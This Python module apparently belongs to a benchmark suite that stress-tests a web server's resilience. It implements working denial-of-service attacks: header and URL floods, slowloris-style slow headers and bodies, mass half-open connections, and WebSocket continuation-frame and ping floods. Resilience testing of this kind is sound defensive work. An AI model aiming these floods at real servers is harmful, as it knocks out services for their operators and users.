"""Attacks below HTTP: connections, heads, bodies and frames. None needs a token."""

import socket
from base64 import b64encode
from collections.abc import Callable
from contextlib import suppress
from typing import Final

from benchmarks.attacks.attacker import Victim, connected, paced, sent

_MEGABYTE: Final = 1 << 20
_CHUNK: Final = 64 * 1024
_SLOW: Final = 300
_HALF_OPEN: Final = 5_000
_FLOODS: Final = 4
# Masked with zeros, as RFC 6455 wants frames of clients masked.
_EMPTY_CONTINUATION: Final = b"\x00\x80\0\0\0\0"
_FIRST_FRAGMENT: Final = b"\x01\x80\0\0\0\0"
_PING: Final = b"\x89\x80\0\0\0\0"


def header_flood(victim: Victim, until: float) -> None:
    """Headers without an end, a hundred megabytes a second at most."""
    line = b"X-Filler: " + b"x" * 4_000 + b"\r\n"
    _flood(victim, until, victim.head("GET", "/") + b"\r\n", line * (_CHUNK // len(line)), 100)


def long_url(victim: Victim, until: float) -> None:
    """A request line without an end."""
    _flood(victim, until, b"GET /", b"x" * _CHUNK, 30)


def _flood(victim: Victim, until: float, begin: bytes, chunk: bytes, megabytes: int) -> None:
    links: list[socket.socket | None] = [None] * _FLOODS
    for number in paced(megabytes * _MEGABYTE / len(chunk), until):
        at = number % _FLOODS
        if not sent(links[at], chunk):
            links[at] = connected(victim)
            sent(links[at], begin)


def slow_heads(victim: Victim, until: float) -> None:
    """Three hundred heads, a byte each second."""
    _drip(victim, until, lambda: victim.head("GET", "/") + b"\r\nX-Slow: ")


def slow_bodies(victim: Victim, until: float) -> None:
    """Three hundred bodies, a byte each second."""
    lines = ("Content-Type: application/json", "Content-Length: 60000", "", "{")
    _drip(victim, until, lambda: victim.head("POST", "/api/players", *lines))


def _drip(victim: Victim, until: float, begin: Callable[[], bytes]) -> None:
    links = [connected(victim) for _ in range(_SLOW)]
    for link in links:
        sent(link, begin())
    for number in paced(_SLOW, until):
        at = number % _SLOW
        if not sent(links[at], b" "):
            links[at] = connected(victim)
            sent(links[at], begin())


def half_open(victim: Victim, until: float) -> None:
    """Five thousand connections with half a head each, opened as fast as two thousand a second."""
    held = []
    for number in paced(2_000, until):
        if number < _HALF_OPEN:
            link = connected(victim)
            sent(link, victim.head("GET", "/"))
            held.append(link)


def fragments(victim: Victim, until: float) -> None:
    """Empty continuation frames, a megabyte a second, on a socket without a token."""
    _frames(victim, until, _FIRST_FRAGMENT, _EMPTY_CONTINUATION)


def pings(victim: Victim, until: float) -> None:
    """Empty pings, a megabyte a second, on a socket without a token."""
    _frames(victim, until, b"", _PING)


def _frames(victim: Victim, until: float, begin: bytes, frame: bytes) -> None:
    chunk = frame * (_CHUNK // 4 // len(frame))
    link: socket.socket | None = None
    for _ in paced(_MEGABYTE / len(chunk), until):
        if not sent(link, chunk):
            link = _upgraded(victim)
            sent(link, begin)
        _drain(link)


def _upgraded(victim: Victim) -> socket.socket | None:
    key = b64encode(b"sixteen bytes...").decode()
    lines = ("Upgrade: websocket", "Connection: Upgrade", f"Sec-WebSocket-Key: {key}")
    asked = victim.head("GET", "/api/lobby/live", *lines, "Sec-WebSocket-Version: 13", "", "")
    link = connected(victim)
    return link if sent(link, asked) else None


def _drain(link: socket.socket | None) -> None:
    """Read what has come, so that the server's pongs do not fill its buffer."""
    if link is None or link.fileno() < 0:
        return
    with suppress(OSError):  # nothing has come, or the server has hung up
        if not link.recv(_CHUNK, socket.MSG_DONTWAIT):
            link.close()
